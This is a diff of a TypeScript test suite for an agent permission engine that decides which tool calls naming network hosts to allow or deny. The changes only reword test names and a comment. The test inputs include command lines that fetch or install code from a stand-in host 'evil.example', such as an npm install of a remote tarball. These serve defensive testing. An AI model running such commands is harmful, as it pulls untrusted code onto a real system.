@@ -61,7 +61,7 @@ describe('a rule that names hosts', () => {
     expect(await decide(denying, calling('fetch', { target: url }, { traits }))).toBe('allow');
   });
 
-  it('goes by the footprint too, as of a redirect that a body asks about', async () => {
+  it('also checks hosts in a footprint that the tool declares while it runs, such as after a redirect', async () => {
     const found = (key: string) =>
       calling('fetch', { url: 'https://example.org' }, { footprint: { reads: [key], writes: [] } });
     expect(await decide(denying, found('host:EVIL.example'))).toBe('deny: rule');
@@ -69,7 +69,7 @@ describe('a rule that names hosts', () => {
     expect(await decide(allowing, found('host:evil.example'))).toBe('deny: nobody-to-ask');
   });
 
-  it('allows only when every host that is named fits, and some host is', async () => {
+  it('allows a call only if it names at least one host and every host matches', async () => {
     expect(await decide(allowing, fetching('https://example.org/x'))).toBe('allow');
     expect(await decide(allowing, fetching('https://API.example.org./x'))).toBe('allow');
     for (const url of [
@@ -93,7 +93,7 @@ describe('a rule that names hosts', () => {
     );
   });
 
-  it('allows no files that the same call touches, unless it names them too', async () => {
+  it('does not allow files that the same call touches, unless the rule names them too', async () => {
     const upload = editing(at('a.txt'), { tool: 'upload', arguments: { path: 'a.txt', url: 'https://example.org' } });
     expect(await decide(allowing, upload)).toBe('deny: nobody-to-ask');
     expect(await decide([{ action: 'allow', host: 'example.org', path: '*.txt' }], upload)).toBe('allow');
@@ -128,12 +128,12 @@ describe('a rule that names hosts', () => {
     'python3 fetch.py https://evil.example',
     'npm install https://evil.example/x.tgz',
   ])('denies the command line %s', async (command) => {
-    // Writing to a device is refused before any rule is asked.
+    // Writing to a device is refused before any rule applies.
     const by = command.includes('>') ? 'deny: protected' : 'deny: rule';
     expect(await decide(denying, running(command, { cwd: root }))).toBe(by);
   });
 
-  it('denies only command lines that name such a host, and allows none', async () => {
+  it('denies only command lines that name a matching host, and never allows a command line', async () => {
     for (const command of [
       'echo evil.example',
       'grep evil.example a.txt',
@@ -145,7 +145,7 @@ describe('a rule that names hosts', () => {
   });
 
   it.each(['https://example.org', 'example.org:443', 'example.org/x', 'a@example.org', '*.', 'a b', '[', '*.exa*/x'])(
-    'is refused with %j, which is no host',
+    'is rejected with %j, which is not a host',
     (host) => {
       const make = (): unknown => createPermissionEngine({ rules: [{ action: 'deny', host }] });
       expect(make).toThrow(expect.objectContaining({ code: 'INVALID_RULE' }));
@@ -153,13 +153,13 @@ describe('a rule that names hosts', () => {
     },
   );
 
-  it('is rejected if it would seem to allow a command', () => {
+  it('is rejected if it appears to allow a command', () => {
     expect(() =>
       createPermissionEngine({ rules: [{ action: 'allow', command: 'curl *', host: 'example.org' }] }),
     ).toThrow('an allowance for a command can name no host');
   });
 
-  it('takes time in proportion to what it looks at', async () => {
+  it('takes time proportional to the length of the text', async () => {
     const engine = createPermissionEngine({ rules: denying });
     for (const unit of ['a', 'a:', 'http://', 'http://a@', 'a.', '//']) {
       const makeText = (count: number): string => unit.repeat(count);
